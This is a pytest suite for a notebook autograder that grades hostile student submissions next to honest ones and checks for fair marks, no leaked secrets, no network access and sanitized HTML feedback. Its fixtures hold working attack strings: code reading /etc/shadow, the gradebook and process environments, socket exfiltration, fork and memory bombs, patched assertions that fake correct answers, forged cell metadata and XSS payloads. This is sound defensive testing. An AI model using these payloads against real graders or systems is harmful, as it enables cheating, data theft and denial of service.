"""A class of hostile submissions, graded in one run with honest ones: none gains, learns, or harms another's."""

import json
import os
import re
import socket
import threading
from pathlib import Path

import nbformat
import pytest
from graded_course import Course, answered, cell, part, small
from nbconvert.exporters import HTMLExporter
from nbformat import v4
from traitlets.config import Config

from convlib.grading import switch_on
from convlib.grading.submissions import UnreadableError, parse_cells

pytestmark = pytest.mark.sandbox

SECRET = "the-secret-of-the-grader"
TAGS = {
    "DOCTYPE",
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "h1",
    "h2",
    "h3",
    "p",
    "br",
    "strong",
    "em",
    "code",
    "pre",
}
TAGS |= {"table", "tr", "th", "td", "a", "b", "div", "section", "hr", "img"}
HONEST = {"right": 5.0, "half": 4.0, "blank": 0.0}
BLANK = {"sizes": None, "correlate": None, "why": None}
ALWAYS = """
class Always(float):
    __eq__ = __ge__ = __le__ = lambda *_: True
    __hash__ = lambda *_: 0
    __array__ = lambda self, *_, **__: self
    __array_ufunc__ = lambda *_, **__: True
    __sub__ = __rsub__ = __abs__ = __getitem__ = lambda self, *_: self
    shape, ndim, dtype = (), 0, float
width = height = Always(4)
def correlate(image, kernel, stride=1):
    return Always(5)
"""
REPLACED = """
import builtins, unittest, math
right = lambda *_, **__: True
for module in (np, np.testing, math, unittest.TestCase, builtins):
    for name in ("allclose", "array_equal", "isclose", "all", "assert_allclose", "assert_array_equal", "assertEqual",
                 "isinstance", "abs", "all", "any", "print", "type"):
        if hasattr(module, name):
            setattr(module, name, right)
"""
FRAMES = """
import gc, io, os, sys
for file in [each for each in gc.get_objects() if isinstance(each, io.BufferedWriter)]:
    file.write(b"16")
for number in range(3, 32):
    try:
        os.write(number, b"\\x00" * 64)
    except OSError:
        pass
"""
READS = """
import glob, os, subprocess
for path in {paths!r}:
    try:
        print(open(path, errors="replace").read()[:5000])
    except OSError as problem:
        print(problem)
print(dict(os.environ), glob.glob("/proc/[0-9]*"), glob.glob("/home/*"), glob.glob("/tmp/*"), os.listdir("/"))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    print(open(path).read())
!cat {paths[0]}
"""
SENDS = """
import socket, urllib.request
for address in (("127.0.0.1", {port}), ("localhost", {port}), ("8.8.8.8", 53)):
    try:
        socket.create_connection(address, timeout=0.5).sendall(b"answers")
    except OSError as problem:
        print(problem)
"""
FORK = """
def correlate(image, kernel, stride=1):
    import os
    while True:
        os.fork()
"""
MEMORY = """
def correlate(image, kernel, stride=1):
    kept = []
    while True:
        kept.append(np.ones(10_000_000))
"""
DEAF = """
def correlate(image, kernel, stride=1):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""
PRINTS = """
def correlate(image, kernel, stride=1):
    while True:
        print("a" * 100_000)
"""
FILES = """
with open("huge", "wb") as file:
    while True:
        file.write(bytes(10_000_000))
"""
QUITS = "def correlate(image, kernel, stride=1):\n    import os\n    os._exit(0)"
MODULES = """
for name in ("numpy", "convlib", "json", "wire", "os"):
    open(name + ".py", "w").write("raise SystemExit('mine')")
"""
SCRIPT = """
<script>alert(1)</script> <img src="http://127.0.0.1/x" onerror="alert(2)">
[a](javascript:alert(3)) ![b](http://127.0.0.1/y)
<svg onload="alert(4)"><a xlink:href="javascript:alert(5)"></a></svg>
<iframe srcdoc="<script>alert(6)</script>"></iframe>
<style>@import "http://127.0.0.1/z";</style> `<script>alert(7)</script>`
"""
SHOWS = """
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML("<script>alert(8)</script>"), SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(9)'/>"))
display(Javascript("alert(10)"), Markdown("<script>alert(11)</script>"))
script = "<script>alert(12)</script>"
display({"text/html": script, "image/png": "bm8=", "text/plain": script}, raw=True)
display({"text/html": script, "text/plain": script}, raw=True)
"""
TYPES = {
    "dict": "{'right': True}",
    "text": "'[[1, 2], [3, 4]]'",
    "texts": "[['1', '2'], ['3', '4']]",
    "objects": "np.full((3, 3), None)",
    "ragged": "[[1, 2], [3]]",
    "deep": "eval('[' * 60 + ']' * 60)",
    "lambda": "lambda: 1",
    "complex": "image * 1j",
    "huge": "10 ** 400",
    "nan": "np.full((2, 3), np.nan)",
    "large": "np.zeros((3000, 3000))",
    "shape": "np.zeros((0, 5, 0))",
    "dates": "np.array(['2020-01-01'], 'datetime64[D]')",
    "records": "np.zeros(3, [('a', int)])",
    "class": "type('Array', (np.ndarray,), {'__eq__': lambda *_: True}).__new__(np.ndarray, (2, 3))",
}


def hostile(course):
    """Name -> (a submission, the points that it deserves, what its feedback says)."""
    paths = [
        str(course.folder / path)
        for path in ("gradebook.db", "solutions/small/small.ipynb", "submitted/right/small/small.ipynb")
    ] + ["/etc/passwd", "/etc/shadow", str(Path.home() / ".bashrc"), "nbgrader_config.py", "../../gradebook.db"]
    blank = {
        "replaced": (REPLACED, "You did not write an answer here."),
        "always": (ALWAYS, "is expected"),
        "frames": (FRAMES, "sent something that is not a result"),
        "reads": (READS.format(paths=paths), "No such file or directory"),
        "sends": (SENDS.format(port=course.port), "Operation not permitted"),
        "assertions": (
            "import builtins\nclass AssertionError: pass\nbuiltins.AssertionError = AssertionError",
            "You did not write an answer",
        ),
        "patched": (
            "import convlib.practice as p, sys\np.check = p.Verdict = True\nsys.modules['convlib'] = p",
            "You did not write an answer",
        ),
        "imports": ("from convlib import correlate2d as correlate", "a graded notebook can't use it"),
        "module": ("import convlib\nconvlib.mistakes", "a graded notebook can't use it"),
    }
    made = {name: (added(answered(course, **BLANK), source), 0, told) for name, (source, told) in blank.items()}
    right = {
        "endless": (
            answered(course, correlate="def correlate(image, kernel, stride=1):\n    while True: pass"),
            2,
            "was not finished after 2 s",
        ),
        "deaf": (answered(course, correlate=DEAF), 2, "did not finish within"),
        "quits": (answered(course, correlate=QUITS), 2, "ended its Python process"),
        "forks": (answered(course, correlate=FORK), 2, "✗ correlate: "),
        "memory": (answered(course, correlate=MEMORY), 2, "memory"),
        "prints": (answered(course, correlate=PRINTS), 2, "was not finished after 2 s"),
        "files": (added(answered(course), FILES), 5, "OSError"),
        "modules": (added(answered(course), MODULES), 5, "Correct in all 7 cases"),
        "endless-cell": (added(answered(course), "while True: pass"), 5, "did not finish within 4 s"),
        "quits-cell": (added(answered(course), "import os; os._exit(0)"), 5, "ended its Python process"),
        "printing-cell": (added(answered(course), "while True: print('b' * 10_000)"), 5, "is left out"),
        "script": (with_raw(added(answered(course, why=SCRIPT), SHOWS)), 5, "alert(1)"),
    }
    types = {
        f"gives-{name}": (
            answered(course, correlate=f"def correlate(image, kernel, stride=1):\n    return {source}"),
            2,
            "✗ correlate: Not correct for an image of",
        )
        for name, source in TYPES.items()
    }
    return made | right | types | edited(course)


def added(made, source):
    """With a cell of one's own behind the imports."""
    made.cells.insert(1, cell(source))
    return made


def with_raw(made):
    """With cells that are shown as they are."""
    made.cells += [v4.new_raw_cell(SCRIPT), v4.new_raw_cell(SCRIPT, metadata={"raw_mimetype": "text/html"})]
    made.cells.append(v4.new_markdown_cell(SCRIPT))
    return made


def edited(course):
    """Submissions whose cells are not as they were handed out."""
    deleted = answered(course)
    deleted.cells = [
        each for each in deleted.cells if "check" not in each.metadata.get("nbgrader", {}).get("grade_id", "")
    ]
    emptied = answered(course)
    emptied.cells = []
    doubled = answered(course)
    doubled.cells = [each for each in doubled.cells for _ in range(2)]
    changed = answered(course, **BLANK)
    for name in ("sizes-check", "correlate-check"):
        part(changed, name).source = "5"
        part(changed, name).outputs = [v4.new_output("execute_result", {"text/plain": "5"})]
    points = answered(course)
    part(points, "correlate-check").metadata.nbgrader.points = 100
    forged = answered(course, **BLANK)
    more = {"grade": True, "solution": False, "locked": True, "points": 50, "schema_version": 3, "task": False}
    forged.cells += [cell("50", "bonus", **more), cell("import numpy as np", "imports", **more)]
    solution = answered(course, **BLANK)
    part(solution, "correlate-check").metadata.nbgrader.update(solution=True, grade=False, locked=False)
    part(solution, "imports").metadata.nbgrader.update(solution=True, locked=False)
    part(solution, "imports").source = "np = None"
    return {
        "deleted": (deleted, 5, "The cell correlate-check was missing and was put back."),
        "emptied": (emptied, 0, "The file small.ipynb has none of the exercise's cells."),
        "doubled": (doubled, 5, "The cell correlate-check was there more than once; one copy counts."),
        "changed": (changed, 0, "The cell sizes-check had been changed and was put back as it was handed out."),
        "points": (points, 5, "The points of the cell correlate-check had been changed; the original points count."),
        "forged": (forged, 0, "The cell imports was there more than once; one copy counts."),
        "solution": (solution, 0, "The cell imports had been changed and was put back as it was handed out."),
    }


def broken(course):
    """Name -> (how the file is made, what the feedback says)."""
    others, book = (course.folder / path for path in ("submitted/right/small/small.ipynb", "gradebook.db"))
    whole = nbformat.writes(answered(course))
    texts = {
        "cut": whole[: len(whole) // 2],
        "empty": "",
        "list": "[]",
        "depth": "[" * 1_000_000,
        "depth-in-cells": whole.replace('"cells": [', '"cells": [' + "[" * 100_000, 1),
        "numbers": json.dumps({"nbformat": 4, "cells": [1, 2]}),
        "no-source": json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": [1]}]}),
        "digits": '{"nbformat": 4, "cells": ' + "9" * 100_000 + "}",
        "many": json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": ""}] * 2000}),
        "heavy": "[" + "[]," * 2_500_000 + "[]]",
    }
    told = dict.fromkeys(texts, "is not a readable notebook")
    told |= dict.fromkeys(("numbers", "no-source", "many"), "has none of the exercise's cells")
    told |= {"cut": "is cut off", "empty": "is empty"}
    made = {name: (lambda path, text=text: path.write_text(text), told[name]) for name, text in texts.items()}

    def link_to_anothers(path):
        """A hard link in a folder of another user; only root can make such a folder here."""
        os.link(others, path)
        os.chown(path.parent, 12345, -1)

    made |= {
        "too-long": (lambda path: (path.touch(), os.truncate(path, 101_000_000)), "the grader reads at most 100 MB"),
        "bytes": (lambda path: path.write_bytes(bytes(range(256)) * 100), "is not a readable notebook"),
        "link": (lambda path: path.symlink_to(others), "it is a link, or not a file."),
        "link-to-book": (lambda path: path.symlink_to(book), "it is a link, or not a file."),
        "pipe": (lambda path: os.mkfifo(path), "a link, a pipe or a device"),
        "folder": (lambda path: path.mkdir(), "a link, a pipe or a device"),
        "nothing": (lambda path: (path.parent / "other.ipynb").write_text(whole), "There is no file small.ipynb"),
        "linked-folder": (lambda path: (path.parent.rmdir(), path.parent.symlink_to(others.parent)), "it is a link"),
    }
    if not os.geteuid():
        made["hard-link"] = (link_to_anothers, "not a regular file of yours")
    return made


class Listener(threading.Thread):
    """A server of this machine, which counts who comes."""

    def __init__(self):
        super().__init__(daemon=True)
        self.came, self.socket = 0, socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]

    def run(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            self.came += 1
            connection.close()


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """The whole class, graded in one run."""
    course = Course(tmp_path_factory.mktemp("hostile"), small())
    listener = Listener()
    listener.start()
    course.port = listener.port
    course.hand_in("right", answered(course, why="An honest word."))
    course.hand_in("half", answered(course, sizes="width = 5\nheight = 5"))
    course.hand_in("blank", answered(course, **BLANK))
    course.alone = course.copy(tmp_path_factory.mktemp("alone"))
    course.deserved = dict(HONEST)
    course.says, course.blank = {}, set()
    for name, (made, points, told) in hostile(course).items():
        course.hand_in(name, made)
        course.deserved[name], course.says[name] = points, told
    course.blank.add("emptied")
    for name, (make, told) in broken(course).items():
        path = course.folder / "submitted" / name / "small" / "small.ipynb"
        path.parent.mkdir(parents=True)
        make(path)
        course.deserved[name], course.says[name] = 0, told
        course.blank.add(name)
    (course.folder / "submitted" / "cut" / "small" / "timestamp.txt").write_text("\x00" * 50)
    (course.folder / "submitted" / "bytes" / "small" / "timestamp.txt").symlink_to("/etc/passwd")
    (course.folder / "submitted" / "modules" / "small" / "numpy.py").write_text("raise SystemExit")
    course.said = course.run("autograde", "small", SECRET=SECRET)
    course.run("generate_feedback", "small")
    listener.socket.close()
    course.came = listener.came
    return course


def test_everybody_has_the_marks_that_are_deserved(course):
    assert course.scores() == course.deserved


def test_feedback_says_what_happened(course):
    for name, says in course.says.items():
        assert " ".join(says.split()) in course.told(name), name
        assert ("This submission was graded as blank. " in course.told(name)) == (name in course.blank), name


def test_feedback_runs_nothing(course):
    for name in course.deserved:
        page = course.page(name)
        assert "default-src 'none'" in page
        assert set(re.findall(r"<[!/]?(\w+)", page)) <= TAGS, name
        tags = re.findall(r"<\w[^>]*>", page)
        attributes = {attribute for tag in tags for attribute in re.findall(r'\s([\w:-]+)="', tag)}
        assert attributes <= {"lang", "charset", "http-equiv", "name", "class", "id", "href", "src", "alt", "content"}
        assert all(href.startswith("#") for href in re.findall(r'href="([^"]*)"', page)), name
        assert all(source.startswith("data:image/png;base64,") for source in re.findall(r'src="([^"]*)"', page)), name


def test_what_the_formgrader_shows_runs_nothing(course):
    """nbgrader shows graded notebooks with this exporter, to somebody who may change marks."""
    config = Config()
    switch_on(config)
    page, _ = HTMLExporter(config=config, embed_images=True).from_notebook_node(course.graded("script"))
    for number in range(1, 15):
        assert f"<script>alert({number})" not in page
    assert not re.search(r"<[^>]*(onerror|onload|javascript:)", page[page.index("<body") :])
    assert "127.0.0.1/z" not in page or "<style>@import" not in page


def test_nobody_learns_anything(course):
    for name in course.deserved:
        kept = course.page(name) + (course.folder / "autograded" / name / "small" / "small.ipynb").read_text()
        for secret in (SECRET, "BEGIN HIDDEN", "Question(", "root:"):
            assert secret not in kept, name
        assert "An honest word." not in kept or name == "right"


def test_the_exercises_cells_are_as_they_were_handed_out(course):
    release = nbformat.read(course.folder / "exercises" / "small" / "small.ipynb", as_version=4)
    ours = {each.metadata.nbgrader.grade_id: each for each in release.cells}
    for name in course.deserved:
        found = [each for each in course.graded(name).cells if "nbgrader" in each.metadata]
        assert sorted(each.metadata.nbgrader.grade_id for each in found) == sorted(ours), name
        for each in found:
            original = ours[each.metadata.nbgrader.grade_id]
            assert {key: each.metadata[key] for key in original.metadata} == original.metadata, name
            assert each.metadata.keys() - original.metadata.keys() <= {"convlib"}, name  # the grader's own verdicts
            assert each.source == original.source or original.metadata.nbgrader.solution, name


def test_nobody_reached_the_network(course):
    assert course.came == 0


def test_nobody_took_long(course):
    times = dict(re.findall(r"\d+ of \d+: ([\w-]+), .*?, ([\d.]+) s", course.said))
    assert times.keys() == course.deserved.keys()
    assert max(map(float, times.values())) < 20, times


def test_honest_ones_get_what_they_get_alone(course):
    """The same marks, and from the same seed the same feedback to the letter."""
    seed = course.graded("right").metadata.convlib.seed
    with (course.alone.folder / "nbgrader_config.py").open("a") as config:
        config.write(f"\nimport secrets\nsecrets.randbits = lambda bits: {seed}\n")
    course.alone.run("autograde", "small")
    course.alone.run("generate_feedback", "small")
    assert course.alone.scores() == HONEST
    for name in HONEST:
        assert course.alone.page(name) == course.page(name)


def test_nothing_was_written_where_it_does_not_belong(course):
    for name in course.deserved:
        kept = {path.name for path in (course.folder / "autograded" / name / "small").iterdir()}
        assert kept == {"small.ipynb", "timestamp.txt", "submission_secret.txt", "submitted.json"}


def test_a_file_of_very_many_lists_is_read_by_a_process_of_its_own(monkeypatch):
    """Python reads them slowly, and in the grader all other submissions would stand still. Outputs may have as many."""
    read, loads = [], json.loads
    lists = v4.new_output("display_data", {"application/json": [[]] * 250_000})
    made = v4.new_notebook(cells=[v4.new_code_cell("x = 1", outputs=[lists])])
    data = nbformat.writes(made, indent=None).encode()
    monkeypatch.setattr(json, "loads", lambda text: read.append(len(text)) or loads(text))
    (found,) = parse_cells(data, "small.ipynb")
    assert found.source == "x = 1"
    assert max(read) < 1000
    with pytest.raises(UnreadableError, match="is not a readable notebook"):
        parse_cells(b"[" + b"[]," * 300_000 + b"[]]", "small.ipynb")
    assert max(read) < 1000
